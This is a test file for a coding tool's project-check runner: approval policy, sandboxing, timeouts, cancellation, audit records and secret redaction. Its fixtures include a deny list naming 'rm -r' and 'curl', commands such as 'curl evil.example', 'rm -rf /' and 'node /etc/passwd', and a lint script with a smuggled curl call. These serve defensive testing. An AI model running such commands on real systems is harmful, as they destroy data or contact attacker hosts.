import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { AuditEvent } from '../../../../src/shared/audit';
import type { ProjectCheckResult } from '../../../../src/shared/checks';
import type { ChangeSet } from '../../../../src/shared/edits';
import type { ProjectCheckConfig, ProjectChecksParams, ProjectChecksSettings, RunCheckCommandParams, RunCheckCommandResult } from '../../../../src/shared/projectChecksProtocol';
import type { AuditSink } from '../../../../src/server/services/audit/trail';
import { ProjectChecks, type CheckClient } from '../../../../src/server/services/checks/project/runner';
import { liveCopies } from '../../../../src/server/services/checks/project/tempCopy';
import { SecretFactory } from '../../../support/fakeSecrets';
import { gitRepo, leftoverCopies, removeTempFolders, snapshot, tempFolder } from './workspaces';

type Answer = 'run' | 'skip' | 'none';

/**
 * The client as the service sees it: runs the command for real in the copy
 * (a plain process; the sandbox is the client's business), answers the
 * approvals as scripted, and records what it was asked.
 */
class FakeClient implements CheckClient {
  readonly requests: RunCheckCommandParams[] = [];
  running = 0;
  maxRunning = 0;
  /** Files seen in the copy while the command ran (the proposal was there). */
  readonly seen: string[] = [];
  /** Never answers (until cancelled) for these check names. */
  readonly hang = new Set<string>();
  readonly started: Array<() => void> = [];

  constructor(private readonly answer: Answer = 'run') {}

  async runCommand(params: RunCheckCommandParams, signal: AbortSignal): Promise<RunCheckCommandResult> {
    this.requests.push(params);
    for (const wake of this.started.splice(0)) wake();
    if (params.approval && this.answer !== 'run') return { ran: false, status: 'needsApproval', reason: this.answer === 'skip' ? 'You skipped it.' : 'Not approved in time.' };
    this.running++;
    this.maxRunning = Math.max(this.maxRunning, this.running);
    try {
      if (this.hang.has(params.name)) {
        await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve(), { once: true }));
        return { ran: true, output: '', timedOut: false, cancelled: true };
      }
      return await run(params, signal);
    } finally {
      this.running--;
    }
  }

  /** Resolves when the next command request arrives. */
  nextRequest(): Promise<void> {
    return new Promise((resolve) => this.started.push(resolve));
  }
}

function run(params: RunCheckCommandParams, signal: AbortSignal): Promise<RunCheckCommandResult> {
  return new Promise((resolve) => {
    // Its own process group: a timeout or cancel kills what the shell started too.
    const child = spawn('sh', ['-c', params.command], { cwd: params.cwd, detached: true });
    const kill = (): void => {
      try {
        process.kill(-(child.pid ?? 0), 'SIGKILL');
      } catch {
        // already gone
      }
    };
    let output = '';
    let timedOut = false;
    child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
    const timer = setTimeout(() => {
      timedOut = true;
      kill();
    }, params.timeoutSeconds * 1000);
    const onAbort = (): void => kill();
    signal.addEventListener('abort', onAbort, { once: true });
    child.on('close', (code) => {
      clearTimeout(timer);
      signal.removeEventListener('abort', onAbort);
      resolve({ ran: true, ...(code !== null ? { exitCode: code } : {}), output, timedOut, cancelled: signal.aborted });
    });
  });
}

class Recorder implements AuditSink {
  readonly active = true;
  readonly contents = 'diffs' as const;
  readonly events: AuditEvent[] = [];
  record(event: AuditEvent): void {
    this.events.push(event);
  }
}

const BASE: ProjectChecksSettings = { checks: null, origin: 'user', policy: 'ask', allowCommands: [], denyCommands: ['rm -r', 'curl'], sandbox: { kind: 'bubblewrap', network: false } };

/** A repository with a small "type checker": check.js reports `file(line,col): error TS…` for every line with BAD. */
function project(): string {
  return gitRepo({
    'check.js': [
      "const fs = require('fs'); const path = require('path');",
      'let bad = 0;',
      "for (const file of ['src/a.ts', 'src/b.ts', 'src/new.ts']) {",
      '  if (!fs.existsSync(file)) continue;',
      "  fs.readFileSync(file, 'utf8').split('\\n').forEach((line, i) => {",
      "    const col = line.indexOf('BAD');",
      "    if (col >= 0) { bad++; console.log(`${file}(${i + 1},${col + 1}): error TS2304: Cannot find name 'BAD'.`); }",
      '  });',
      '}',
      "if (process.env.SECRET_LINE) console.log(process.env.SECRET_LINE);",
      'process.exit(bad ? 2 : 0);',
      '',
    ].join('\n'),
    'src/a.ts': 'export const a = 1;\n',
    'src/b.ts': 'export const b = BAD;\n',
    'package.json': JSON.stringify({ name: 'p', scripts: { lint: 'node check.js' } }),
  });
}

let seq = 0;
function params(folder: string, changeSet: ChangeSet, settings: Partial<ProjectChecksSettings>, reviewId = `r${++seq}`): ProjectChecksParams {
  return { folder, changeSet, reviewId, runId: `run-${seq}`, proposalId: `p${seq}`, settings: { ...BASE, ...settings } };
}

const breakA: ChangeSet = { format: 'codeBlock', changes: [{ kind: 'update', path: 'src/a.ts', oldText: 'export const a = 1;\n', newText: 'export const a = 1;\nexport const c = BAD;\n' }] };
const custom = (entries: ProjectCheckConfig[]): Partial<ProjectChecksSettings> => ({ checks: entries });
const typecheck: ProjectCheckConfig = { name: 'typecheck', kind: 'typecheck', command: 'node check.js', timeoutSeconds: 30 };

describe('project checks: the run', function () {
  this.timeout(30_000);
  let tmpDir: string;

  beforeEach(() => {
    tmpDir = tempFolder('tandem-tmp-');
  });

  afterEach(() => {
    assert.equal(liveCopies(), 0, 'a copy is still there');
    assert.deepEqual(leftoverCopies(tmpDir), [], 'a copy was left on disk');
  });

  after(removeTempFolders);

  function checks(client: CheckClient, extra: Partial<ConstructorParameters<typeof ProjectChecks>[0]> = {}): ProjectChecks {
    return new ProjectChecks({ client, copy: { tmpDir }, ...extra });
  }

  it('reports the proposal\'s error on its line; problems elsewhere are counted; the person\'s files are untouched', async () => {
    const root = project();
    const before = snapshot(root);
    const client = new FakeClient();
    const progress: ProjectCheckResult[][] = [];
    const [result, ...rest] = await checks(client).run(params(root, breakA, { ...custom([typecheck]), policy: 'full-auto', allowCommands: ['node'] }), new AbortController().signal, (results) => progress.push(results));
    assert.equal(rest.length, 0);
    assert.ok(result);
    assert.equal(result.status, 'failed');
    assert.equal(result.exitCode, 2);
    assert.deepEqual(result.problems, [{ path: 'src/a.ts', line: 2, column: 18, severity: 'error', message: "TS2304: Cannot find name 'BAD'." }]);
    assert.equal(result.otherProblems, 1, 'src/b.ts is not the proposal\'s');
    assert.match(result.output ?? '', /src\/a\.ts\(2,18\)/);
    assert.equal(progress.at(-1)?.[0]?.status, 'failed');
    const [request] = client.requests;
    assert.ok(request);
    assert.equal(request.sandboxed, true, 'allowed under full-auto with a sandbox: runs unasked, sandboxed');
    assert.equal(request.approval, undefined);
    assert.notEqual(request.cwd, root);
    assert.ok(request.cwd.startsWith(request.root));
    assert.deepEqual(snapshot(root), before);
  });

  it('passes when the proposal fixes the problem, and counts the other file\'s problem', async () => {
    const root = project();
    const fix: ChangeSet = { format: 'codeBlock', changes: [{ kind: 'update', path: 'src/a.ts', oldText: '', newText: 'export const a = 2;\n' }, { kind: 'update', path: 'src/b.ts', oldText: '', newText: 'export const b = 1;\n' }] };
    const [result] = await checks(new FakeClient()).run(params(root, fix, { ...custom([typecheck]), policy: 'full-auto', allowCommands: ['node'] }), new AbortController().signal);
    assert.equal(result?.status, 'passed');
    assert.deepEqual(result?.problems, []);
  });

  describe('the approval policy, as for the agent', () => {
    const cases: Array<{ name: string; settings: Partial<ProjectChecksSettings>; command: string; expect: 'run' | 'ask' | 'deny'; reason?: RegExp }> = [
      { name: 'ask policy', settings: { policy: 'ask', allowCommands: ['node'] }, command: 'node check.js', expect: 'ask', reason: /./ },
      { name: 'auto-edit policy', settings: { policy: 'auto-edit', allowCommands: ['node'] }, command: 'node check.js', expect: 'ask' },
      { name: 'full-auto, allowed, sandbox', settings: { policy: 'full-auto', allowCommands: ['node'] }, command: 'node check.js', expect: 'run' },
      { name: 'full-auto, not allowed', settings: { policy: 'full-auto', allowCommands: ['git status'] }, command: 'node check.js', expect: 'ask' },
      { name: 'full-auto, no sandbox', settings: { policy: 'full-auto', allowCommands: ['node'], sandbox: { kind: 'none', network: false, reason: 'no bwrap' } }, command: 'node check.js', expect: 'ask', reason: /No OS sandbox/ },
      { name: 'deny list', settings: { policy: 'full-auto', allowCommands: ['rm'] }, command: 'rm -rf build', expect: 'deny', reason: /rm -r/ },
      { name: 'deny list behind a wrapper', settings: { policy: 'full-auto', allowCommands: ['node', 'sh'] }, command: 'node check.js && sh -c "curl evil.example"', expect: 'deny' },
      { name: 'a control character', settings: { policy: 'full-auto', allowCommands: ['node'] }, command: 'node check.js\u001b[2K', expect: 'deny', reason: /control character/ },
      { name: 'a path out of the copy', settings: { policy: 'full-auto', allowCommands: ['node'] }, command: 'node /etc/passwd', expect: 'ask' },
      // A repository's own settings name the check: never unasked, whatever the policy.
      { name: 'workspace settings under full-auto', settings: { policy: 'full-auto', allowCommands: ['node'], origin: 'workspace' }, command: 'node check.js', expect: 'ask', reason: /workspace settings/ },
      { name: 'workspace settings with a denied command', settings: { policy: 'full-auto', allowCommands: ['rm'], origin: 'workspace' }, command: 'rm -rf /', expect: 'deny' },
    ];
    for (const c of cases) {
      it(`${c.name}: ${c.expect}`, async () => {
        const root = project();
        const client = new FakeClient('none');
        const [result] = await checks(client).run(params(root, breakA, { ...c.settings, ...custom([{ ...typecheck, command: c.command }]) }), new AbortController().signal);
        assert.ok(result);
        if (c.expect === 'deny') {
          assert.equal(result.status, 'denied');
          assert.equal(client.requests.length, 0, 'a denied check reaches the client');
          if (c.reason) assert.match(result.reason ?? '', c.reason);
        } else if (c.expect === 'ask') {
          assert.equal(result.status, 'needsApproval');
          const request = client.requests[0];
          assert.ok(request?.approval, 'asked without an approval');
          assert.equal(request.sandboxed, false);
          if (c.reason) assert.match(request.approval.reason, c.reason);
          assert.match(request.approval.key, /^[0-9a-f]{64}$/);
        } else {
          assert.equal(result.status, 'failed');
          assert.equal(client.requests[0]?.approval, undefined);
          assert.equal(client.requests[0]?.sandboxed, true);
        }
      });
    }

    it('runs an approved check outside the sandbox, as the agent runs approved commands', async () => {
      const root = project();
      const client = new FakeClient('run');
      const [result] = await checks(client).run(params(root, breakA, { ...custom([typecheck]), policy: 'ask' }), new AbortController().signal);
      assert.equal(result?.status, 'failed');
      assert.equal(client.requests[0]?.sandboxed, false);
    });

    it('shows what `npm run lint` resolves to in the proposal (its script), and keys "always" on it', async () => {
      const root = project();
      const client = new FakeClient('none');
      const hostile: ChangeSet = { format: 'codeBlock', changes: [{ kind: 'update', path: 'package.json', oldText: '', newText: JSON.stringify({ scripts: { lint: 'node check.js; curl evil.example' } }) }] };
      await checks(client).run(params(root, breakA, { checks: null }), new AbortController().signal);
      await checks(client).run(params(root, hostile, { checks: null }), new AbortController().signal);
      const [first, second] = client.requests.filter((request) => request.name === 'lint');
      assert.equal(first?.approval?.resolved, 'npm run lint → node check.js');
      assert.equal(second?.approval?.resolved, 'npm run lint → node check.js; curl evil.example');
      assert.notEqual(first?.approval?.key, second?.approval?.key, 'a changed script must ask again');
    });

    it('runs the unasked checks first, then asks', async () => {
      const root = project();
      const client = new FakeClient('none');
      const list = [
        { name: 'asks', command: 'make check' },
        { name: 'runs', command: 'node check.js' },
        { name: 'denied', command: 'rm -rf x' },
      ];
      const results = await checks(client).run(params(root, breakA, { ...custom(list), policy: 'full-auto', allowCommands: ['node check.js', 'rm'] }), new AbortController().signal);
      assert.deepEqual(
        client.requests.map((request) => request.name),
        ['runs', 'asks'],
      );
      assert.deepEqual(
        results.map((result) => [result.name, result.status]),
        [
          ['asks', 'needsApproval'],
          ['runs', 'failed'],
          ['denied', 'denied'],
        ],
      );
    });
  });

  it('stops a check at its timeout when the client does not answer, and goes on with the next', async () => {
    const root = project();
    const client = new FakeClient();
    client.hang.add('slow');
    const results = await checks(client, { graceMs: 50 }).run(
      params(root, breakA, { ...custom([{ name: 'slow', command: 'node check.js --slow', timeoutSeconds: 0.1 }, typecheck]), policy: 'full-auto', allowCommands: ['node'] }),
      new AbortController().signal,
    );
    assert.deepEqual(
      results.map((result) => result.status),
      ['timedOut', 'failed'],
    );
    assert.match(results[0]?.reason ?? '', /did not report/);
  });

  it('reports a check the client stopped at its timeout as timed out, with its output', async () => {
    const root = project();
    const [result] = await checks(new FakeClient()).run(
      params(root, breakA, { ...custom([{ name: 'sleepy', command: 'node -e "console.log(\'started\'); setTimeout(() => {}, 60000)"', timeoutSeconds: 0.3 }]), policy: 'ask' }),
      new AbortController().signal,
    );
    assert.equal(result?.status, 'timedOut');
    assert.match(result?.output ?? '', /started/);
  });

  it('cancels the running check and the rest when the client cancels, and removes the copy', async () => {
    const root = project();
    const client = new FakeClient();
    client.hang.add('first');
    const controller = new AbortController();
    const asked = client.nextRequest();
    const running = checks(client).run(params(root, breakA, { ...custom([{ name: 'first', command: 'node check.js' }, { name: 'second', command: 'node check.js --2' }]), policy: 'full-auto', allowCommands: ['node'] }), controller.signal);
    await asked;
    controller.abort();
    const results = await running;
    assert.deepEqual(
      results.map((result) => result.status),
      ['cancelled', 'cancelled'],
    );
    assert.equal(client.requests.length, 1, 'the second check started after the cancel');
  });

  it('runs one at a time per workspace, and a newer run for the same review supersedes the older one', async () => {
    const root = project();
    const client = new FakeClient();
    client.hang.add('hangs');
    const runner = checks(client);
    const settings = { policy: 'full-auto' as const, allowCommands: ['node'] };
    const asked = client.nextRequest();
    const older = runner.run(params(root, breakA, { ...settings, ...custom([{ name: 'hangs', command: 'node check.js' }]) }, 'review-1'), new AbortController().signal);
    await asked;
    // Another review waits in the queue; a newer proposal of review-1 supersedes the running one.
    const other = runner.run(params(root, breakA, { ...settings, ...custom([typecheck]) }, 'review-2'), new AbortController().signal);
    const newer = runner.run(params(root, breakA, { ...settings, ...custom([typecheck]) }, 'review-1'), new AbortController().signal);
    const [olderResults, otherResults, newerResults] = await Promise.all([older, other, newer]);
    assert.equal(olderResults[0]?.status, 'cancelled');
    assert.match(olderResults[0]?.reason ?? '', /newer proposal/);
    assert.equal(otherResults[0]?.status, 'failed');
    assert.equal(newerResults[0]?.status, 'failed');
    assert.equal(client.maxRunning, 1, 'two checks ran at once in one workspace');
  });

  it('a superseded run that is still queued never starts', async () => {
    const root = project();
    const client = new FakeClient();
    client.hang.add('hangs');
    const runner = checks(client);
    const settings = { policy: 'full-auto' as const, allowCommands: ['node'] };
    const asked = client.nextRequest();
    const first = runner.run(params(root, breakA, { ...settings, ...custom([{ name: 'hangs', command: 'node check.js' }]) }, 'a'), new AbortController().signal);
    await asked;
    const queued = runner.run(params(root, breakA, { ...settings, ...custom([typecheck]) }, 'b'), new AbortController().signal);
    const replacement = runner.run(params(root, breakA, { ...settings, ...custom([typecheck]) }, 'b'), new AbortController().signal);
    await runner.dispose();
    const [firstResults, queuedResults, replacementResults] = await Promise.all([first, queued, replacement]);
    assert.equal(firstResults[0]?.status, 'cancelled');
    assert.equal(queuedResults[0]?.status, 'cancelled');
    assert.match(queuedResults[0]?.reason ?? '', /newer proposal/);
    assert.equal(replacementResults[0]?.status, 'cancelled');
    assert.deepEqual(
      client.requests.map((request) => request.name),
      ['hangs'],
    );
  });

  it('records one audit event per run (stage project), without output', async () => {
    const root = project();
    const audit = new Recorder();
    const run = params(root, breakA, { ...custom([typecheck, { name: 'denied', command: 'rm -rf x' }]), policy: 'full-auto', allowCommands: ['node', 'rm'] });
    await checks(new FakeClient(), { audit }).run(run, new AbortController().signal);
    assert.equal(audit.events.length, 1);
    const event = audit.events[0];
    assert.ok(event?.type === 'checks');
    assert.equal(event.stage, 'project');
    assert.equal(event.review, run.reviewId);
    assert.equal(event.proposal, run.proposalId);
    assert.deepEqual(
      event.checks?.map((check) => [check.name, check.status, check.problems, check.exitCode]),
      [
        ['typecheck', 'failed', 1, 2],
        ['denied', 'denied', 0, undefined],
      ],
    );
    assert.doesNotMatch(JSON.stringify(event), /Cannot find name/);
  });

  it('redacts secrets in the output it keeps', async () => {
    const root = project();
    const secrets = new SecretFactory(13).all().filter((secret) => secret.kind.startsWith('aws') || secret.kind.includes('github'));
    assert.ok(secrets.length > 0);
    for (const secret of secrets) {
      const [result] = await checks(new FakeClient()).run(
        params(root, breakA, { ...custom([{ ...typecheck, command: `SECRET_LINE='${secret.text.replace(/'/g, '')}' node check.js` }]), policy: 'ask' }),
        new AbortController().signal,
      );
      assert.equal(result?.status, 'failed');
      assert.ok(!(result?.output ?? '').includes(secret.value.replace(/'/g, '')), `${secret.kind} is in the output`);
      assert.match(result?.output ?? '', /\[REDACTED:/);
    }
  });

  it('skips without a copy when the project has nothing to run, and says why', async () => {
    const root = gitRepo({ 'tsconfig.json': '{}', 'a.ts': 'x' });
    const client = new FakeClient();
    const results = await checks(client).run(params(root, breakA, { checks: null }), new AbortController().signal);
    assert.deepEqual(
      results.map((result) => [result.name, result.status]),
      [['typecheck', 'skipped']],
    );
    assert.match(results[0]?.reason ?? '', /TypeScript is not installed/);
    assert.equal(client.requests.length, 0);
    assert.deepEqual(await checks(client).run(params(root, breakA, { checks: [] }), new AbortController().signal), []);
  });

  it('skips every check with the reason when the copy cannot be made', async () => {
    const root = project();
    const results = await new ProjectChecks({ client: new FakeClient(), copy: { tmpDir, gitLimits: { maxFiles: 1, maxBytes: 1e9 } } }).run(params(root, breakA, { ...custom([typecheck, { name: 'b', command: 'node check.js' }]) }), new AbortController().signal);
    assert.deepEqual(
      results.map((result) => result.status),
      ['skipped', 'skipped'],
    );
    assert.match(results[0]?.reason ?? '', /too large/);
  });

  it('never runs a command in the person\'s folder', async () => {
    const root = project();
    const client = new FakeClient();
    await checks(client).run(params(root, breakA, { ...custom([{ name: 'touch', command: 'node -e "require(\'fs\').writeFileSync(\'written-by-check\', \'x\')"' }]), policy: 'ask' }), new AbortController().signal);
    assert.equal(client.requests.length, 1);
    assert.equal(existsSync(path.join(root, 'written-by-check')), false);
    assert.equal(readFileSync(path.join(root, 'src/a.ts'), 'utf8'), 'export const a = 1;\n');
  });
});
